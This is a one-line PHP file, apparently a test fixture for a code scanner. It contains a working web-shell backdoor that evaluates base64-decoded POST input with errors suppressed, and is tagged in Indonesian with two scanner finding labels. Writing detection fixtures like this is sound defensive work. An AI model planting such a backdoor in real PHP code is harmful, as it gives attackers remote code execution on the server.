<?php
@eval(base64_decode($_POST["x"])); // TEMUAN kawal-php-kode-dari-data dan TEMUAN kawal-php-kode-tersembunyi
